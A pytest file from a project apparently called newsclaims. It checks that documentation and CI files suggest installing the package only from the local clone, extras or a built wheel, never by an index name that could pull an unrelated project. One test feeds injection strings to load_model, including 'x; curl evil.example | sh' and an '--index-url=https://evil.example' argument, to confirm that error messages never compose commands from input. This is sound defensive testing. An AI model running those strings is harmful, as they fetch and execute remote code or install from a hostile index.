"""Installation instructions refer to this project: from a clone, with existing extras, never by a name in a package index."""

import re
import subprocess
import tomllib
from pathlib import Path

import pytest
import yaml

import claims
from claims.extras import DISTRIBUTION, Extra, install_command, remedy
from claims.language.pipeline import load_model
from claims.model import PipelineError

ROOT = Path(__file__).parents[1]
PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
EXTRA = "(?:" + "|".join(Extra) + ")"
ALLOWED = re.compile(
    r"(?: -e| --quiet)* (?:dist/newsclaims-\*\.whl"
    r"""|\.(?![\w/-])|(?P<mark>['"])\.\[(?:{extras})\](?P=mark)|"\$GITHUB_ACTION_PATH"|"\$CLAIMS_PACKAGE")""".format(
        extras=f"{EXTRA}(?:,{EXTRA})*"
    )
)
"""The clone, an extra of it, the wheel built from it, the action's checkout, or the source set by the user of the GitLab job.
"""
COMPOSED = {"claims/extras.py", "tests/test_extras.py"}
"""The module that composes the commands, and this one, which searches for them."""


def tracked_texts() -> list[tuple[str, str]]:
    listed = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, text=True, check=True).stdout
    found = []
    for name in filter(None, listed.split("\0")):
        path = ROOT / name
        data = path.read_bytes() if path.is_file() else b""
        if b"\0" not in data:
            found.append((name, data.decode("utf-8", "replace")))
    return found


def wrong_commands(text: str) -> list[str]:
    """The arguments of ``pip install`` that are not an allowed form."""
    text = text.replace("\\", "")
    return [text[at.end() :][:60] for at in re.finditer("pip3? install", text) if not ALLOWED.match(text, at.end())]


@pytest.mark.parametrize(
    ("text", "fine"),
    [
        ("pip install .", True),
        ("pip install -e '.[test]' && pytest", True),
        ("`pip install .` in a clone", True),
        ('python -I -m pip install --quiet "$GITHUB_ACTION_PATH"', True),
        ("pip install claims", False),
        ("pip install 'claims[review]'", False),
        ("pip install --upgrade claims", False),
        ("pip install '.[reviews]'", False),
        ("pip install dist/newsclaims-*.whl", True),
        ("pip install dist/other-*.whl", False),
        ("pip install ./elsewhere", False),
        ("pip install {name}", False),
        ("pip install some-model", False),
    ],
)
def test_install_commands_are_recognised(text: str, fine: bool) -> None:
    assert (wrong_commands(text) == []) is fine


def test_no_file_suggests_installing_another_package() -> None:
    texts = tracked_texts()
    assert {"README.md", "action.yml", "ci/gitlab.yml", ".ci/run", "docs/store.md"} <= {name for name, _ in texts}
    wrong = {name: found for name, text in texts if name not in COMPOSED and (found := wrong_commands(text))}
    assert wrong == {}


def test_the_extras_are_those_of_the_project() -> None:
    assert set(Extra) == set(PROJECT["optional-dependencies"])
    own = [one for one in PROJECT["optional-dependencies"]["test"] if one.startswith(PROJECT["name"])]
    named = re.fullmatch(rf"{PROJECT['name']}\[([\w,]+)\]", own[0])
    assert named is not None
    assert set(named[1].split(",")) <= set(Extra)


@pytest.mark.parametrize("extra", list(Extra))
def test_every_remedy_names_its_extra_and_an_allowed_command(extra: Extra) -> None:
    assert f"the extra `{extra}`" in remedy(extra)
    assert wrong_commands(remedy(extra)) == []
    assert wrong_commands(install_command()) == []


@pytest.mark.parametrize("name", ["no_such_model", "x; curl evil.example | sh", "--index-url=https://evil.example x"])
def test_no_command_is_composed_from_input(name: str) -> None:
    with pytest.raises(PipelineError) as caught:
        load_model(name)
    assert "install " + name not in str(caught.value)
    assert "pip" not in str(caught.value)


def test_the_gitlab_job_requires_the_package_source() -> None:
    job = yaml.safe_load((ROOT / "ci" / "gitlab.yml").read_text(encoding="utf-8"))
    assert job["variables"]["CLAIMS_PACKAGE"] == ""
    (check,) = [line for line in job["claims-check"]["before_script"] if line.startswith("[")]
    for package, code in (("", 2), ("git+https://git.example.org/claims", 0)):
        ended = subprocess.run(
            ["sh", "-c", check], env={"CLAIMS_PACKAGE": package}, capture_output=True, text=True, check=False
        )
        assert (ended.returncode, "set CLAIMS_PACKAGE" in ended.stderr) == (code, code == 2)


def test_the_distribution_has_one_name_and_one_version() -> None:
    assert PROJECT["name"] == DISTRIBUTION
    assert {name for need in PROJECT["optional-dependencies"]["test"] if (name := need.partition("[")[0]) == DISTRIBUTION}
    assert "version" not in PROJECT, "it stands in claims/__init__.py alone"
    assert PROJECT["dynamic"] == ["version"]
    others = [name for name, text in tracked_texts() if name != "claims/__init__.py" and f'"{claims.__version__}"' in text]
    assert [name for name in others if not name.startswith(("seeds/", "tests/")) and name != "claims/ingest/exports.py"] == []


def test_the_other_project_is_never_suggested_for_installation() -> None:
    wrong = re.compile(r"pypi\.org/\w+/claims\b|^\s*(?:- )?[\"']?claims(?:\[[\w,]+\])?\s*(?:==|>=|~=)", re.MULTILINE)
    named = [name for name, text in tracked_texts() if name not in COMPOSED and wrong.search(text)]
    assert named == []
